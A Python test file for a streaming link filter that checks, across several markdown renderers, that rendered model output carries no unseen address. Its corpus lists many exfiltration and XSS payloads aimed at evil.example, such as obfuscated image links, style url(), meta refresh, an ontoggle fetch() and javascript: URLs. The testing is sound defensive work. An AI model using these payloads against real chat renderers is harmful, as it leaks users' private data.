"""Whatever a model writes, and however it is cut, no program that renders the answer finds an
address in it that was not seen: the guarded text is rendered and read as a browser reads it."""

from __future__ import annotations

import itertools
import re
from html import unescape
from urllib.parse import unquote

import html5lib
import pytest
from ada_url import URL
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pipelines.addresses import TRAILING
from pipelines.html_tags import ELEMENTS
from pipelines.links import LinkGuard

SEEN = "See https://docs.example.com/a?b=c and www.example.org/x."
BASE = "https://base.invalid/a/"
RENDERERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
    MarkdownIt("gfm-like", {"html": True}),
)
for renderer in RENDERERS:
    renderer.validateLink = lambda _: True  # type: ignore[method-assign]
RENDERERS[2].linkify.set({"fuzzy_link": False, "fuzzy_email": False})
RENDERED = ELEMENTS | {"html", "head", "body", "pre", "code", "col", "colgroup"}
TEXTS = {"title", "alt", "class"}
BARE_SCHEME = re.compile(r"[\w+.-]+:")  # carries nothing
STYLES = {"text-align:left", "text-align:right", "text-align:center"}

CORPUS = [
    "[a](//evil%2Eexample/salary)",
    "//evil%2Eexample/salary",
    "[a](//evil。example/salary)",
    "//evil。example/salary",
    "[a](//evil．example/salary)",
    "[a](//ｅｖｉｌ.example/salary)",
    "[a](//1249763844/salary)",
    "//1249763844/salary",
    "[a](http://0x4a.0175.226.4/salary)",
    "[a](//[::ffff:4a7d:e204]/salary)",
    "[a](h&#116;tp:evil.example/salary)",
    "h&#116;tp://evil.example/salary",
    "[a](h&#x74;tp&colon;&sol;&sol;evil.example/salary)",
    "[a](https:evil.example/salary)",
    "[a](https:/evil.example/salary)",
    "[a](https:\\\\evil.example/salary)",
    "[a](/\\evil.example/salary)",
    "[a](\\\\evil.example/salary)",
    "[a](/\\/evil.example/salary)",
    "[a](<//evil.example/sal ary>)",
    "[a](<ht\ttps://evil.example/salary>)",
    "[a](</\t/evil.example/salary>)",
    "[a](&#1;https://evil.example/salary)",
    "[a](&Tab;//evil.example/salary)",
    "[a](\n//evil.example/salary\n)",
    "> [a](\n> //evil.example/salary)",
    "[a](https://evil.example/(salary) 'title')",
    "[a[b]c](//evil.example/salary)",
    "[![a](//evil.example/salary)](//evil.example/salary)",
    "![a](data:image/svg+xml;base64,AAAA)",
    "[a](javascript:alert(1))",
    "[a](java\\script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](vbscript:salary)",
    "[a](blob:https://evil.example/salary)",
    "![a][r]\n\n[r]: //evil.example/salary",
    "[a][r]\n\n[r]:\n//evil%2Eexample/salary\n'title'",
    "[a\nb]\n\n[a\nb]: <//evil.example/salary>",
    "> [r]:\n> //evil.example/salary\n\n[r]",
    "text[^1]\n\n[^1]: ![x](//evil.example/salary)",
    "<https://evil.example/salary>",
    "<javascript:salary>",
    "<salary@evil.example>",
    "<table background=//evil.example/salary><tr><td>x</table>",
    "<p style=\"background:url(//evil.example/salary)\">x</p>",
    "<p style=background:u\\72l(&#47;/evil.example/salary)>x</p>",
    "<svg><use href=//evil.example/salary></svg>",
    "<svg><image xlink:href=//evil.example/salary></svg>",
    "<video><track src=//evil.example/salary></video>",
    "<img srcset='//evil.example/salary 2x'>",
    "<img/src=//evil.example/salary>",
    "<img\nsrc=//evil.example/salary\n>",
    "<IMG SRC=//evil.example/salary",
    "<a href='//evil.example/salary' href='/x'>x</a>",
    "<a href=\"jav\tascript:salary\">x</a>",
    "<a title='>' href=//evil.example/salary>x</a>",
    "<a ping=//evil.example/salary href=/x>x</a>",
    "<!-- --><img src=//evil.example/salary> -->",
    "<!--><img src=//evil.example/salary>-->",
    "<![CDATA[<img src=//evil.example/salary>]]>",
    "<?php <img src=//evil.example/salary> ?>",
    "<style>@import '//evil.example/salary';</style>",
    "<link rel=prefetch href=//evil.example/salary>",
    "<meta http-equiv=refresh content='0;url=//evil.example/salary'>",
    "<base href=//evil.example/salary>",
    "<iframe srcdoc='&lt;img src=//evil.example/salary>'></iframe>",
    "<object data=//evil.example/salary>",
    "<form action=//evil.example/salary><button formaction=//evil.example/salary>x</form>",
    "<noscript><p title=\"</noscript><img src=//evil.example/salary>\">",
    "<details open ontoggle=fetch('//evil.example/salary')>",
    "<div>\n```\n<img src=//evil.example/salary>\n```\n</div>",
    "<pre>\n\n```\n<img src=//evil.example/salary>\n```\n</pre>",
    "a ` b\nc ` <img src=//evil.example/salary> ` d",
    "| a `|` <img src=//evil.example/salary> ` |\n|--|--|\n| ` | <img src=//evil.example/x>` |",
    "- ```\n  x\n  ```\n  <img src=//evil.example/salary>\n  ```",
    "> ```\n<img src=//evil.example/salary>\n```",
    "para\n    ```\n    <img src=//evil.example/salary>",
    "  ```\n<img src=//evil.example/salary>\n  ```\n<img src=//evil.example/salary>",
    "- a\n  ```\n<img src=//evil.example/salary>\n```\n<img src=//evil.example/salary>",
    "```\nx\r```\r<img src=//evil.example/salary>",
    "```\n~~~\n```\n<img src=//evil.example/salary>",
    "~~~ `\n```\n~~~\n<img src=//evil.example/salary>",
    "````\n```\n````\n<img src=//evil.example/salary>",
    "\\`<img src=//evil.example/salary>`",
    "`` ` <img src=//evil.example/salary> `",
    "[a](`<img src=//evil.example/salary>`)",
    "[a](<img src=//evil.example/salary>)",
    "[a](</x><img src=//evil.example/salary>)",
    "[https://docs.example.com/a?b=c](salary)",
    "https://docs.example.com/a?b=c](salary",
    "[a](https://docs.example.com/a?b=c&q=salary)",
    "[a](https://docs.example.com@evil.example/salary)",
    "[a](https://docs.example.com.evil.example/salary)",
    "[a](https://docs.example.com\\@evil.example/salary)",
    "**https://evil.example/salary**",
    "(https://evil.example/salary",
    "x:https://evil.example/salary",
    "mailto:a@evil.example?body=salary",
    "\\https\\://evil.example/salary",
    "https:\\/\\/evil.example/salary",
    "[a](",
    "[a](//evil.example/" + "s" * 9000 + "salary)",
    "[a](" + " " * 9000 + "//evil.example/salary)",
    "<img " + "a " * 900 + "src=//evil.example/salary>",
    "https://evil.example/" + "s" * 9000 + "salary",
    "&" * 5000 + "https://evil.example/salary",
]  # fmt: skip


def guard(pieces: list[str]) -> str:
    link_guard = LinkGuard(lambda address: address in SEEN)
    return "".join([*map(link_guard.feed, pieces), link_guard.finish()])


def addresses(text: str) -> list[str]:
    """Return what a browser could load or open in a rendered text, and elements it should not."""
    bad = []
    for renderer in RENDERERS:
        tree = html5lib.parse(renderer.render(text), namespaceHTMLElements=False)
        for element in tree.iter():
            if element.tag not in RENDERED:
                bad.append(f"<{element.tag}>")
            bad += [value for name, value in element.items() if not is_harmless(name, value)]
    return bad


def is_harmless(name: str, value: str) -> bool:
    if name in TEXTS or (name == "style" and value in STYLES) or BARE_SCHEME.fullmatch(value):
        return True
    try:
        url = URL(value, base=BASE)
    except ValueError:
        return True
    is_seen = any(
        each.rstrip(f'{TRAILING}"') in SEEN
        for each in (value, unescape(unquote(value)), unquote(url.href))
    )
    is_own = url.href.startswith("https://base.invalid/")
    return name in {"href", "start", "colspan", "rowspan"} and (is_own or is_seen)


def cut_everywhere(text: str) -> list[list[str]]:
    cuts = range(1, len(text), 1 + len(text) // 100)
    return [[text], list(text), *([text[:i], text[i:]] for i in cuts)]


@pytest.mark.parametrize("text", CORPUS)
def test_link_guard_given_an_attack_lets_no_address_out(text: str) -> None:
    outputs = {guard(pieces) for pieces in cut_everywhere(text)}
    for output in outputs:
        assert addresses(output) == [], output
        if "//evil" in text and "`" not in text:
            assert not any(host in output for host in ("//evil.", "//evil%", "//evil。")), output


PIECES = st.sampled_from(
    ["https:", "//", "/", "\\", "evil.example", "。", "%2E", "?q=salary", "[", "]", "(", ")", "](",
     "]: ", "!", "![", " ", "\n", "\n\n", "\t", "\r", "&#58;", "&colon;", "&#47;", "&", ";", "www.",
     "`", "``", "```", "```\n", "~~~\n", "    ", "  ", "> ", "- ", "1. ", "<", ">", "<img src=",
     "<p ", "<a href=", "<div>", "</div>", "<b>", "<!--", "-->", "<pre>", "<style>", "'", '"', "=",
     "style=", "url(", "x", "|", "|\n|-|-|\n", "javascript:", "@", "[r]", "#", "*", "1249763844",
     "https://docs.example.com/a?b=c", "//evil.example/salary", "<img src=//evil.example/x>"]
)  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(PIECES, max_size=18), st.lists(st.integers(0, 120), max_size=4))
def test_link_guard_given_any_text_in_any_pieces_lets_no_address_out(
    parts: list[str], cuts: list[int]
) -> None:
    text = "".join(parts)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    output = guard([text[a:b] for a, b in itertools.pairwise(places)])
    assert addresses(output) == [], (text, output)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12), st.lists(PIECES, max_size=12))
def test_link_guard_that_goes_on_after_an_end_lets_no_address_out(
    first: list[str], second: list[str]
) -> None:
    link_guard = LinkGuard(lambda address: address in SEEN)
    output = link_guard.feed("".join(first)) + link_guard.finish()
    output += link_guard.feed("".join(second)) + link_guard.finish()
    assert addresses(output) == [], (first, second, output)


@pytest.mark.parametrize(
    "text",
    ["[" * 10**6, "](" * 500_000, "<a b='" * 170_000, "`a" * 500_000, "!" * 10**6, "&" * 10**6,
     "//," * 330_000, "<a@" * 330_000, "a" * 10**6, "](<" * 330_000, "](" + "(" * 10**6]
)  # fmt: skip
def test_link_guard_given_a_megabyte_holds_little_back(text: str) -> None:
    link_guard = LinkGuard(lambda address: address in SEEN)
    longest = 0
    for start in range(0, len(text) // 10, 1000):
        piece = text[start : start + 1000]
        link_guard.feed(piece)
        longest = max(longest, len(link_guard.held))
    assert longest <= 5000
